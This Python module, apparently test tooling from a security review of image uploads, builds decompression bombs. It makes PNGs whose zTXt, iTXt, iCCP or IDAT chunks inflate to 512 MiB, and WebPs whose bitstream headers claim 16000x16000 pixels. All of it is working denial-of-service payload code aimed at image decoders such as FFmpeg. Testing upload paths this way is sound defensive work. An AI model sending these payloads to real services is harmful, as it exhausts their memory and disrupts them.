"""Decompression bombs in the image formats uploads accept, built byte by byte: small files whose
fields ask a decoder for far more memory or time than their size suggests."""

from __future__ import annotations

import struct
import zlib

MIB = 1 << 20
_ZEROS = bytes(MIB)


# --- PNG ---------------------------------------------------------------------------------------


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_chunks(data: bytes) -> list[bytes]:
    """A PNG's chunks, each whole (length, type, body, CRC), after the signature."""
    chunks, at = [], 8
    while at < len(data):
        (length,) = struct.unpack(">I", data[at : at + 4])
        chunks.append(data[at : at + 12 + length])
        at += 12 + length
    return chunks


def with_chunks_after_ihdr(png: bytes, *extra: bytes) -> bytes:
    ihdr, *rest = png_chunks(png)
    return png[:8] + ihdr + b"".join(extra) + b"".join(rest)


def zlib_of_zeros(mib: int) -> bytes:
    """A zlib stream that inflates to `mib` MiB of zeros, about 1 KB a MiB. Built from one
    deflate block repeated (a full flush makes each MiB's block the same bytes), so building
    512 MiB takes a fraction of a second and never holds the zeros."""
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = raw.compress(_ZEROS) + raw.flush(zlib.Z_FULL_FLUSH)
    adler = ((mib * MIB) % 65521) << 16 | 1  # Adler-32 of zeros: the sum stays 1, the sum of sums counts them
    return b"\x78\xda" + block * mib + raw.flush() + struct.pack(">I", adler)


def ztxt_chunk(mib: int = 512) -> bytes:
    return png_chunk(b"zTXt", b"Comment\0\0" + zlib_of_zeros(mib))


def itxt_chunk(mib: int = 512) -> bytes:
    # keyword, compressed flag 1, method 0, empty language tag and translated keyword
    return png_chunk(b"iTXt", b"Comment\0\x01\x00\0\0" + zlib_of_zeros(mib))


def iccp_chunk(mib: int = 512) -> bytes:
    return png_chunk(b"iCCP", b"icc\0\0" + zlib_of_zeros(mib))


def png_whose_pixels_inflate_to(mib: int, width: int = 32, height: int = 32) -> bytes:
    """A 32x32 RGB PNG (3 KB of pixel rows) whose IDAT inflates to `mib` MiB."""
    ihdr = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + ihdr + png_chunk(b"IDAT", zlib_of_zeros(mib)) + png_chunk(b"IEND", b"")


# --- WebP --------------------------------------------------------------------------------------

ANIMATION_FLAG = 0x02


def riff(*chunks: bytes) -> bytes:
    body = b"WEBP" + b"".join(chunks)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def webp_chunk(kind: bytes, payload: bytes) -> bytes:
    return kind + struct.pack("<I", len(payload)) + payload + (b"\0" if len(payload) % 2 else b"")


def vp8x(width: int, height: int, flags: int = 0) -> bytes:
    return webp_chunk(
        b"VP8X", bytes([flags, 0, 0, 0]) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    )


def vp8l(width: int, height: int) -> bytes:
    """A lossless bitstream header saying width x height, then 3 bytes: FFmpeg reads past the end
    as zeros and decodes the whole picture."""
    bits = (width - 1) | ((height - 1) << 14)
    return webp_chunk(b"VP8L", b"\x2f" + bits.to_bytes(4, "little") + b"\0\0\0")


def vp8(width: int, height: int) -> bytes:
    """A lossy key frame header saying width x height, an 8-byte first partition and 2 more bytes
    (enough for FFmpeg to set up the frame and decode it from zeros)."""
    first_partition = bytes(8)
    tag = (1 << 4) | (len(first_partition) << 5)  # bit 0 clear: a key frame; bit 4: shown
    payload = (
        tag.to_bytes(3, "little") + b"\x9d\x01\x2a" + struct.pack("<HH", width, height) + first_partition + bytes(2)
    )
    return webp_chunk(b"VP8 ", payload)


def anmf(x: int, y: int, width: int, height: int, *frame_chunks: bytes) -> bytes:
    """An animation frame at (x, y) (even), width x height, holding `frame_chunks`."""
    header = b"".join(value.to_bytes(3, "little") for value in (x // 2, y // 2, width - 1, height - 1, 100)) + b"\0"
    return webp_chunk(b"ANMF", header + b"".join(frame_chunks))


def anim() -> bytes:
    return webp_chunk(b"ANIM", bytes(4) + b"\0\0")  # background colour, loop forever


def bombs(photo_png: bytes) -> dict[str, bytes]:
    """Each payload the review sent, by name; the PNG ones are `photo_png` (a real photo) with one
    chunk of 512 MiB of compressed zeros added (about 0.5 MB more)."""
    return {
        "webp: VP8X canvas 100x100, VP8L bitstream 16000x16000": riff(vp8x(100, 100), vp8l(16000, 16000)),
        "webp: VP8X canvas 100x100, VP8 bitstream 16000x16000": riff(vp8x(100, 100), vp8(16000, 16000)),
        "png: zTXt of 512 MiB": with_chunks_after_ihdr(photo_png, ztxt_chunk()),
        "png: iTXt of 512 MiB": with_chunks_after_ihdr(photo_png, itxt_chunk()),
        "png: iCCP of 512 MiB": with_chunks_after_ihdr(photo_png, iccp_chunk()),
        "png: 32x32 whose IDAT inflates to 512 MiB": png_whose_pixels_inflate_to(512),
    }
